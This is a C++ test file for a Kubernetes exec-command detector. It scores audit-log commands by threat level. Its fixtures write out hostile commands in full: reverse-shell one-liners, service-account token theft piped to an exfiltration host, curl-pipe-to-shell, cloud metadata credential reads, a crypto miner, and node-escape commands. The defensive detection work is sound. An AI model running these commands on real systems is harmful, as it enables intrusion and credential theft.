#include "controller/events/exec_command.h"

#include <catch2/catch.hpp>

#include "controller/events/audit_event.h"

namespace kc::audit {
namespace {

CommandScore scoreUri(std::string_view uri) {
  auto req = parseExecRequestUri(uri);
  REQUIRE(req);
  return scoreCommand(req->command);
}

TEST_CASE("DecodesCommandParametersFromAnExecRequestUri") {
  auto req = parseExecRequestUri(
      "/api/v1/namespaces/shop/pods/web-7d4b9/exec?command=sh&command=-c&command=cat+%2Fvar%2Frun"
      "%2Fsecrets%2Fkubernetes.io%2Fserviceaccount%2Ftoken&container=web&stdin=true&stdout=true"
      "&tty=false");
  REQUIRE(req);
  CHECK(req->namespace_ == "shop");
  CHECK(req->pod == "web-7d4b9");
  CHECK(req->subresource == "exec");
  CHECK(req->container == "web");
  CHECK(req->stdin);
  CHECK_FALSE(req->tty);
  REQUIRE(req->command.size() == 3);
  CHECK(req->command[0] == "sh");
  CHECK(req->command[1] == "-c");
  CHECK(req->command[2] == "cat /var/run/secrets/kubernetes.io/serviceaccount/token");
}

TEST_CASE("DecodesAttachAndPortforwardAndRejectsOtherUris") {
  auto attach =
      parseExecRequestUri("/api/v1/namespaces/ns/pods/p/attach?container=c&stdin=1&tty=1");
  REQUIRE(attach);
  CHECK(attach->subresource == "attach");
  CHECK(attach->tty);
  CHECK(attach->command.empty());
  auto pf = parseExecRequestUri("/api/v1/namespaces/ns/pods/p/portforward?ports=8080&ports=5432");
  REQUIRE(pf);
  CHECK(pf->ports == std::vector<std::string>{"8080", "5432"});
  CHECK_FALSE(parseExecRequestUri("/api/v1/namespaces/ns/pods/p/log?container=c"));
  CHECK_FALSE(parseExecRequestUri("/api/v1/namespaces/ns/pods/p"));
  CHECK_FALSE(parseExecRequestUri("/apis/apps/v1/namespaces/ns/deployments/d/exec?command=sh"));
  CHECK_FALSE(parseExecRequestUri(""));
}

TEST_CASE("UrlDecodingKeepsInvalidEscapes") {
  CHECK(urlDecode("a%20b+c") == "a b c");
  CHECK(urlDecode("a+b", false) == "a+b");
  CHECK(urlDecode("100%") == "100%");
  CHECK(urlDecode("%zz%4") == "%zz%4");
  CHECK(urlDecode("%2F%2f") == "//");
  CHECK(urlDecode("%00x") == std::string("\0x", 2));
}

TEST_CASE("FlagsServiceAccountTokenReads") {
  auto s = scoreUri(
      "/api/v1/namespaces/shop/pods/web/exec?command=cat&command=%2Fvar%2Frun%2Fsecrets%2F"
      "kubernetes.io%2Fserviceaccount%2Ftoken&container=web&stdout=true");
  CHECK(s.has("sa_token_read"));
  CHECK(s.severity == Severity::kHigh);
  CHECK(s.indicators.at(0).technique == "T1528");
  CHECK(s.commandLine == "cat /var/run/secrets/kubernetes.io/serviceaccount/token");
}

TEST_CASE("FlagsReverseShells") {
  const std::vector<std::vector<std::string>> shells = {
      {"bash", "-c", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"},
      {"/bin/sh", "-c", "nc -e /bin/sh 203.0.113.9 4444"},
      {"ncat", "203.0.113.9", "4444", "--sh-exec", "/bin/bash"},
      {"sh", "-c",
       "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.9 4444 >/tmp/f"},
      {"socat", "exec:'bash -li',pty,stderr,setsid,sigint,sane", "tcp:203.0.113.9:4444"},
      {"python3", "-c",
       "import socket,subprocess,os;s=socket.socket();s.connect(('203.0.113.9',4444));"
       "os.dup2(s.fileno(),0);import pty;pty.spawn('/bin/sh')"},
      {"perl", "-e",
       "use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname('tcp'));exec('/bin/sh -i');"},
  };
  for (const auto& argv : shells) {
    auto s = scoreCommand(argv);
    INFO(s.commandLine);
    CHECK(s.has("reverse_shell"));
    CHECK(s.severity == Severity::kCritical);
  }
}

TEST_CASE("FlagsCloudMetadataAccess") {
  auto aws = scoreCommand(
      {"curl", "-s", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"});
  CHECK(aws.has("cloud_metadata"));
  CHECK_FALSE(aws.has("internet_download"));  // link-local, not the internet
  auto gcp = scoreCommand({"sh", "-c",
                           "curl -H 'Metadata-Flavor: Google' http://metadata.google.internal/"
                           "computeMetadata/v1/instance/service-accounts/default/token"});
  CHECK(gcp.has("cloud_metadata"));
  CHECK(gcp.severity == Severity::kHigh);
}

TEST_CASE("DistinguishesInternetDownloadsFromClusterTraffic") {
  auto internet = scoreCommand({"wget", "https://evil.example.com/payload.bin", "-O", "/tmp/p"});
  CHECK(internet.has("internet_download"));
  CHECK(internet.severity == Severity::kMedium);
  auto bare = scoreCommand({"curl", "-fsSL", "evil.example.com/x"});
  CHECK(bare.has("internet_download"));
  auto pipe = scoreCommand({"sh", "-c", "curl -fsSL https://get.example.net/install.sh | sh"});
  CHECK(pipe.has("download_execute"));
  CHECK(pipe.severity == Severity::kHigh);

  CHECK(scoreCommand({"curl", "http://orders.shop.svc.cluster.local:8080/healthz"})
            .indicators.empty());
  CHECK(scoreCommand({"curl", "-s", "http://localhost:9090/metrics"}).indicators.empty());
  CHECK(scoreCommand({"wget", "-qO-", "http://10.96.0.12/ready"}).indicators.empty());
  CHECK(scoreCommand({"curl", "http://orders:8080/"}).indicators.empty());
  CHECK(scoreCommand({"wget", "-O", "out.bin", "http://orders:8080/x"}).indicators.empty());
  CHECK(scoreCommand({"curl", "-o", "report.json", "http://api.shop.svc/r"}).indicators.empty());
  CHECK(scoreCommand({"curl", "-o", "report.json", "https://api.github.com/x"})
            .has("internet_download"));
  CHECK(scoreCommand({"curl", "http://203.0.113.7/x"}).has("internet_download"));
}

TEST_CASE("FlagsTunnelingToolsAndMiners") {
  CHECK(scoreCommand({"/tmp/ngrok", "tcp", "22"}).has("tunneling_tool"));
  CHECK(scoreCommand({"./chisel_1.9.1_linux_amd64", "client", "203.0.113.9:8000", "R:socks"})
            .has("tunneling_tool"));
  CHECK(scoreCommand({"sh", "-c", "./frpc -c frpc.ini &"}).has("tunneling_tool"));
  CHECK(scoreCommand({"cloudflared", "tunnel", "--url", "http://localhost:8080"})
            .has("tunneling_tool"));
  CHECK(scoreCommand({"ssh", "-R", "80:localhost:8080", "nokey@localhost.run"})
            .has("tunneling_tool"));
  auto miner = scoreCommand(
      {"sh", "-c", "./xmrig -o stratum+tcp://pool.example:3333 -u wallet --donate-level 1"});
  CHECK(miner.has("miner"));
  CHECK(miner.indicators.at(0).technique == "T1496");
  CHECK(scoreCommand({"/opt/run", "-o", "stratum+ssl://203.0.113.5:443"}).has("miner"));
}

TEST_CASE("FlagsEscapesToTheNode") {
  CHECK(scoreCommand({"nsenter", "-t", "1", "-m", "-u", "-i", "-n", "sh"}).severity ==
        Severity::kCritical);
  CHECK(
      scoreCommand({"sh", "-c", "curl --unix-socket /var/run/docker.sock http://x/containers/json"})
          .has("node_escape"));
  CHECK(scoreCommand({"chroot", "/host", "bash"}).has("node_escape"));
}

TEST_CASE("AnInteractiveShellIsLowAndOrdinaryCommandsAreClean") {
  auto shell = scoreCommand({"/bin/bash"});
  CHECK(shell.has("interactive_shell"));
  CHECK(shell.severity == Severity::kLow);
  for (const auto& argv : std::vector<std::vector<std::string>>{
           {"ls", "-la", "/app"},
           {"cat", "/etc/nginx/nginx.conf"},
           {"sh", "-c", "ps aux | grep java"},
           {"env"},
           {"python3", "manage.py", "migrate"},
           {"tail", "-n", "100", "/var/log/app.log"},
           {"ls", "-lt"},
           {"nc", "-z", "db", "5432"},
       }) {
    auto s = scoreCommand(argv);
    INFO(s.commandLine);
    CHECK(s.indicators.empty());
    CHECK(s.severity == Severity::kInfo);
  }
}

TEST_CASE("CommandLineIsQuotedAndBounded") {
  auto s = scoreCommand({"sh", "-c", "echo 'hi' there"});
  CHECK(s.commandLine == "sh -c 'echo '\\''hi'\\'' there'");
  auto big = scoreCommand({"echo", std::string(5000, 'a')});
  CHECK(big.commandLine.size() == 1024);
  CHECK(big.commandLine.substr(1021) == "...");
}

TEST_CASE("ScoresTheCommandOfAnExecAuditEvent") {
  // End to end from the audit event the apiserver writes for `kubectl exec`.
  constexpr std::string_view event =
      R"({"kind":"Event","apiVersion":"audit.k8s.io/v1","level":"Request","auditID":"e-1","stage":"ResponseStarted","requestURI":"/api/v1/namespaces/payments/pods/api-5c9/exec?command=sh\u0026command=-c\u0026command=cat+%2Fvar%2Frun%2Fsecrets%2Fkubernetes.io%2Fserviceaccount%2Ftoken+%7C+curl+-d+%40-+https%3A%2F%2Fexfil.example.org%2Fc\u0026container=api\u0026stdin=true\u0026stdout=true","verb":"create","user":{"username":"dev@example.com","groups":["system:authenticated"]},"sourceIPs":["198.51.100.4"],"userAgent":"kubectl/v1.29.2","objectRef":{"resource":"pods","namespace":"payments","name":"api-5c9","apiVersion":"v1","subresource":"exec"},"responseStatus":{"code":101},"requestReceivedTimestamp":"2024-05-01T10:00:00.000000Z","stageTimestamp":"2024-05-01T10:00:00.050000Z","annotations":{"authorization.k8s.io/decision":"allow"}})";
  EventParser parser;
  int n = 0;
  parser.parse(event, [&](const Event& e) {
    ++n;
    auto req = parseExecRequestUri(e.requestURI);
    REQUIRE(req);
    CHECK(req->container == "api");
    auto s = scoreCommand(req->command);
    CHECK(s.has("sa_token_read"));
    CHECK(s.has("internet_download"));
    CHECK(s.severity == Severity::kHigh);
  });
  CHECK(n == 1);
}

}  // namespace
}  // namespace kc::audit
